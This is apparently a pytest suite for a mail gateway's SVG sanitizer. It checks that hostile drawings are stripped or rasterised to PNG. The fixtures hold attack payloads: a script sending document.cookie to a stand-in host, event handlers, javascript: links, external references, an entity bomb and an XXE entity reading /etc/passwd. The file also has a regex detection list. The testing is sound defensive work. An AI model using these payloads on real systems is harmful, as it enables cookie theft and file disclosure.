"""SVG sanitizer: the contract, plus each way an SVG runs script or reaches out.

Fixtures are built here: script, onload and other handlers, foreignObject with HTML,
external and javascript: hrefs (SVG 2 ``href`` and ``xlink:href``), ``<use>`` of another file,
CSS imports and url(), an xml-stylesheet instruction, an entity bomb, and a data: picture with
bytes appended."""

from __future__ import annotations

import base64
import http.server
import io
import re
import struct
import threading
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image

from sanitizers.cdr.settings import CdrPolicy
from sanitizers.cdr.svg import find_dangerous, parse_svg
from sanitizers.errors import SanitizeError
from sanitizers.policy import AttachmentAction
from sanitizers.vocabulary import Action, Reason
from tests.sanitizers.cdr.contract import Case, CdrContract

BENIGN = "市役所の案内図"
HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'width="100" height="50">'
)


def svg(body: str, *, head: str = HEAD, root_attributes: str = "") -> bytes:
    return (
        head.replace('height="50"', f'height="50" {root_attributes}') + body + "</svg>"
    ).encode()


def png_url(appended: bytes = b"") -> str:
    out = io.BytesIO()
    Image.new("RGB", (4, 4), (0, 90, 200)).save(out, "PNG")
    return "data:image/png;base64," + base64.b64encode(out.getvalue() + appended).decode()


TEXT = f'<text x="5" y="20">{BENIGN}</text>'
HOSTILE = {
    "script": (svg(TEXT + "<script>fetch('http://evil.example/'+document.cookie)</script>"),
               {"javascript"}),
    "onload": (svg(TEXT + '<rect width="5" height="5" onclick="alert(1)"/>',
                   root_attributes='onload="alert(document.domain)"'), {"event_handler"}),
    "foreign-object": (svg(TEXT + '<foreignObject width="90" height="40"><body xmlns="http://'
                           'www.w3.org/1999/xhtml"><iframe src="http://evil.example/"/></body>'
                           "</foreignObject>"), {"foreign_object"}),
    "external-image": (svg(TEXT + '<image href="http://evil.example/beacon.png" width="9" '
                           'height="9"/><image xlink:href="file://attacker/share/x.png"/>'),
                       {"external_relationship"}),
    "use-external": (svg(TEXT + '<use href="http://evil.example/sprites.svg#icon"/>'
                         '<use xlink:href="other.svg#x"/>'), {"external_relationship"}),
    "javascript-link": (svg(f'<a xlink:href="javascript:alert(1)">{TEXT}</a>'), {"hyperlink"}),
    "animated-href": (svg(f'<a href="#top">{TEXT}<set attributeName="href" '
                          'to="javascript:alert(1)"/></a>'), {"event_handler"}),
    "css": (svg(TEXT + "<style>@import url(http://evil.example/a.css); rect {fill: "
                'url("http://evil.example/p.svg#g")}</style>'
                '<rect width="5" height="5" style="fill:url(//evil.example/x#y)"/>'),
            {"external_relationship"}),
    "stylesheet-pi": (svg(TEXT, head='<?xml version="1.0"?><?xml-stylesheet type="text/css" '
                          'href="http://evil.example/s.css"?>' + HEAD[HEAD.index("<svg"):]),
                      {"external_relationship"}),
    "data-picture": (svg(TEXT + f'<image href="{png_url(b"MZ appended program")}"/>'),
                     {"trailing_data"}),
}  # fmt: skip


def independent_markers(data: bytes) -> set[str]:
    """Raw-byte markers, sharing nothing with the sanitizer's parser (handlers and script URLs
    in a tag; the same words as escaped text are only text)."""
    patterns = (
        rb"<script", rb"<[^>]*\son[a-z]+\s*=", rb"foreignObject", rb"evil\.example",
        rb"<[^>]*javascript:",
        rb"other\.svg", rb"file://", rb"@import", rb"xml-stylesheet",
    )  # fmt: skip
    return {p.decode() for p in patterns if re.search(p, data, re.IGNORECASE)}


class TestSvgContract(CdrContract):
    kind = "svg"
    keep_if_clean_rebuilds = True

    def hostile_cases(self) -> Sequence[Case]:
        return [
            Case(name, data, f"{name}.svg", frozenset(codes), text=(BENIGN,))
            for name, (data, codes) in HOSTILE.items()
        ]

    def clean_cases(self) -> Sequence[Case]:
        clean = svg(
            '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
            '<symbol id="s"><circle r="3"/></symbol></defs>'
            f'<rect width="9" height="9" fill="url(#g)"/><use href="#s"/>{TEXT}'
            f'<image href="{png_url()}" width="4" height="4"/><title>地図</title>'
        )
        return [Case("drawing", clean, "map.svg", text=(BENIGN, "地図"), detectable=False)]

    def bomb_cases(self) -> Sequence[Case]:
        lol = (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
            + b"".join(f'<!ENTITY {c * 2} "{("&" + c + ";") * 10}">'.encode() for c in "bcdefgh")
            + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&hh;</text></svg>'
        )
        xxe = (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>'
        )
        return [
            Case("entity-bomb", lol, "bomb.svg", action=Action.REMOVED),
            Case("external-entity", xxe, "xxe.svg", action=Action.REMOVED),
        ]

    def dangerous_items(self, data: bytes) -> set[str]:
        found = independent_markers(data)
        try:
            found |= find_dangerous(data)
        except SanitizeError as exc:
            found.add(exc.reason.value)
        return found

    def assert_parses(self, data: bytes) -> None:
        parse_svg(data)

    def extract_text(self, data: bytes) -> str:
        return "".join(str(t) for t in parse_svg(data).itertext())


def test_stylesheet_instruction_and_doctype_are_dropped() -> None:
    data = svg(TEXT, head='<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
               '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><?xml-stylesheet '
               'href="http://evil.example/s.css"?>' + HEAD[HEAD.index("<svg"):])  # fmt: skip
    outcome = TestSvgContract().run(data, "a.svg")
    assert outcome.action == Action.SANITIZED
    assert outcome.data is not None
    assert b"DOCTYPE" not in outcome.data
    assert b"stylesheet" not in outcome.data


def test_an_internal_dtd_removes_the_file() -> None:
    with pytest.raises(SanitizeError) as caught:
        parse_svg(b'<!DOCTYPE svg [<!ENTITY e "x">]><svg xmlns="http://www.w3.org/2000/svg"/>')
    assert caught.value.reason == Reason.MALFORMED


def test_the_data_picture_is_reencoded() -> None:
    data, _codes = HOSTILE["data-picture"]
    outcome = TestSvgContract().run(data, "a.svg")
    assert outcome.data is not None
    image = next(etree.fromstring(outcome.data).iter("{*}image"))
    raw = base64.b64decode(str(image.get("href")).split(",", 1)[1])
    assert raw.startswith(b"\x89PNG")
    assert b"MZ" not in raw


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_verification_catches_each_kind(name: str) -> None:
    data, _codes = HOSTILE[name]
    try:
        found = find_dangerous(data)
    except SanitizeError:
        return
    if name == "data-picture":
        return  # caught by decoding the picture (test_the_data_picture_is_reencoded)
    assert found, name


def test_the_corpus_svg_attacks_come_out_clean() -> None:
    """The SVG attack samples of ../shared/corpus (svg-sanitizer's tests and corkami's): each
    is removed or rebuilt without anything the raw-byte look or the verification finds."""
    from tests.corpus import CORPUS

    files = sorted(CORPUS.glob("**/*.svg")) if CORPUS.is_dir() else []
    if not files:
        pytest.skip(f"no SVG files in the corpus at {CORPUS} (it lives beside the project)")
    for contract, delivered in (
        (TestSvgContract(), Action.SANITIZED),
        (TestSvgRasterContract(), Action.CONVERTED),
    ):
        for path in files:
            outcome = contract.run(path.read_bytes(), path.name)
            if outcome.action == Action.REMOVED:
                continue
            assert outcome.action == delivered, (path, outcome)
            assert outcome.data is not None
            assert contract.dangerous_items(outcome.data) == set(), path


# --- rasterising to PNG (cdr.svg_rasterize) ----------------------------------------------------


def _png_findings(data: bytes) -> set[str]:
    """An independent look at a picture: a PNG Pillow reads whole, with pixels drawn, and no
    chunk but the image's own (no text or other data carried along)."""
    if not data.startswith(b"\x89PNG\r\n\x1a\n"):
        return {"not_png"}
    found: set[str] = set()
    position = 8
    while position < len(data):
        (length,) = struct.unpack(">I", data[position : position + 4])
        chunk = data[position + 4 : position + 8]
        if chunk not in (
            b"IHDR",
            b"IDAT",
            b"IEND",
            b"PLTE",
            b"tRNS",
            b"sRGB",
            b"gAMA",
            b"pHYs",
            b"bKGD",
        ):
            found.add(f"chunk:{chunk.decode('latin-1')}")
        position += 12 + length
    with Image.open(io.BytesIO(data)) as picture:
        picture.load()
    return found


class TestSvgRasterContract(TestSvgContract):
    """The same drawings with cdr.svg_rasterize: each delivered as a PNG of its sanitized
    drawing (what the rebuild removed still reported), the bombs still removed."""

    converts_with = Reason.CLEAN

    def cdr_policy(self) -> CdrPolicy:
        return CdrPolicy(svg_rasterize=True)

    def hostile_cases(self) -> Sequence[Case]:
        return [replace(case, action=Action.CONVERTED) for case in super().hostile_cases()]

    def dangerous_items(self, data: bytes) -> set[str]:
        if data.startswith(b"\x89PNG"):
            return _png_findings(data)
        return super().dangerous_items(data)

    def assert_parses(self, data: bytes) -> None:
        with Image.open(io.BytesIO(data)) as picture:
            assert picture.format == "PNG"
            picture.verify()

    def assert_benign_kept(self, case: Case, output: bytes) -> None:
        """The drawing is there: the text of every case is drawn (something not blank)."""
        with Image.open(io.BytesIO(output)) as picture:
            assert picture.size == (100, 50)
            assert picture.getchannel("A").getbbox() is not None, f"{case.name} drew nothing"


def test_rasterised_hostile_svg_is_a_png_and_the_notice_names_what_was_removed() -> None:
    data = svg(
        TEXT + "<script>alert(1)</script>"
        '<foreignObject width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml">x</p>'
        '</foreignObject><image href="http://evil.example/beacon.png" width="9" height="9"/>',
        root_attributes='onload="alert(1)"',
    )
    outcome = TestSvgRasterContract().run(data, "案内図.svg")
    assert (outcome.action, outcome.content_type, outcome.filename) == (
        Action.CONVERTED,
        "image/png",
        "案内図.png",
    )
    assert {"javascript", "foreign_object", "external_relationship", "event_handler"} <= set(
        outcome.removed
    )
    assert outcome.data is not None
    assert _png_findings(outcome.data) == set()


def test_rasteriser_fetches_nothing_even_when_given_an_unsanitized_drawing(
    tmp_path: Path,
) -> None:
    """Defence in depth: CairoSVG given references (never the case after the sanitizer) reads
    no file and asks no server: the local server counts no request."""
    from sanitizers.cdr.svg_raster import rasterize

    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            requests.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            return

    secret = tmp_path / "secret.png"
    Image.new("RGB", (4, 4), (255, 0, 0)).save(secret)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        port = server.server_address[1]
        drawing = svg(
            f'<image href="http://127.0.0.1:{port}/beacon.png" width="9" height="9"/>'
            f'<image xlink:href="file://{secret}" width="9" height="9"/>'
            f'<image href="{secret}" width="9" height="9"/>'
            f'<use href="http://127.0.0.1:{port}/sprites.svg#a"/>'
            f"<style>@import url(http://127.0.0.1:{port}/a.css);</style>"
        )
        png = rasterize(drawing, CdrPolicy())
        server.shutdown()
        thread.join()
    assert requests == []
    with Image.open(io.BytesIO(png)) as picture:
        assert picture.convert("RGBA").getextrema()[0] == (0, 0)  # no red: the file was not read


def test_rasterising_keeps_the_pixel_limit() -> None:
    huge = svg(TEXT, head=HEAD.replace('width="100" height="50"', 'width="60000" height="60000"'))
    outcome = TestSvgRasterContract().run(huge, "huge.svg")
    assert (outcome.action, outcome.reason) == (Action.REMOVED, Reason.LIMIT_PIXELS)


def test_rasterising_runs_in_the_isolated_child() -> None:
    from sanitizers.cdr.isolation import IsolatedDisarmer

    contract = TestSvgRasterContract()
    (clean,) = contract.clean_cases()
    with IsolatedDisarmer(contract.cdr_policy()) as disarmer:
        outcome = disarmer.disarm(
            clean.data, "map.svg", "svg", AttachmentAction.SANITIZE, contract.policy()
        )
    assert (outcome.action, outcome.content_type) == (Action.CONVERTED, "image/png"), outcome
    assert outcome.data is not None
    assert _png_findings(outcome.data) == set()


def test_a_rasterised_svg_arrives_as_png_and_the_notice_says_so() -> None:
    from sanitizers.cdr.registry import InProcessDisarmer
    from sanitizers.pipeline import sanitize_message
    from sanitizers.policy import Policy
    from tests.mailfactory import body_text, mail, multipart
    from tests.sanitizers.test_pipeline_cdr import attach

    data, _codes = HOSTILE["script"]
    raw = mail(multipart("mixed", [attach("地図.svg", "image/svg+xml", data)]))
    policy = Policy(cdr=CdrPolicy(svg_rasterize=True))
    result = sanitize_message(raw, policy, disarmer=InProcessDisarmer())
    (part,) = [p for p in result.report.parts if p.filename == "地図.svg"]
    assert (part.action, part.attached_as) == (Action.CONVERTED, "地図.png")
    text = body_text(result.message)
    assert "画像の形式に作り直しました" in text
    assert "地図.png" in text


def test_rasterising_without_cairosvg_removes_the_svg(monkeypatch: pytest.MonkeyPatch) -> None:
    """An install without CairoSVG or libcairo2 (the import failed) and the option on: the
    drawing is removed, never delivered unrendered."""
    from sanitizers.cdr import svg as svg_module

    monkeypatch.setattr(svg_module, "svg_raster", None)
    (clean,) = TestSvgRasterContract().clean_cases()
    outcome = TestSvgRasterContract().run(clean.data, "map.svg")
    assert (outcome.action, outcome.reason) == (Action.REMOVED, Reason.ERROR)


def _use_laughs(levels: int) -> bytes:
    groups = '<circle id="a0" r="2"/>' + "".join(
        f'<g id="a{n}">' + "".join(f'<use href="#a{n - 1}" x="{x}"/>' for x in range(10)) + "</g>"
        for n in range(1, levels + 1)
    )
    return svg(f"<defs>{groups}</defs><use href='#a{levels}'/>{TEXT}")


@pytest.mark.parametrize(
    ("name", "drawing", "reason"),
    [
        ("use-billion-laughs", _use_laughs(9), Reason.LIMIT_ENTRIES),
        (
            "pattern-laughs",
            svg(
                '<defs><pattern id="p0" width="2" height="2"><circle r="1"/></pattern>'
                + "".join(
                    f'<pattern id="p{n}" width="2" height="2">'
                    + "".join(
                        f'<rect width="1" height="1" fill="url(#p{n - 1})"/>' for _ in range(10)
                    )
                    + "</pattern>"
                    for n in range(1, 8)
                )
                + '</defs><rect width="9" height="9" fill="url(#p7)"/>'
            ),
            Reason.LIMIT_ENTRIES,
        ),
        (
            "use-cycle",
            svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
            Reason.MALFORMED,
        ),
    ],
)
def test_rasterising_counts_references_before_drawing(
    name: str, drawing: bytes, reason: Reason
) -> None:
    """References that multiply what is drawn are counted, without drawing, against
    cdr.svg_max_drawn_elements; a cycle is malformed. Without rasterising the drawing is
    rebuilt as usual (a viewer draws it, not the gateway)."""
    outcome = TestSvgRasterContract().run(drawing, f"{name}.svg")
    assert (outcome.action, outcome.reason) == (Action.REMOVED, reason)
    assert TestSvgContract().run(drawing, f"{name}.svg").action is Action.SANITIZED
    small = TestSvgRasterContract().run(_use_laughs(3), "small.svg")  # 1,000 circles: drawn
    assert small.action is Action.CONVERTED
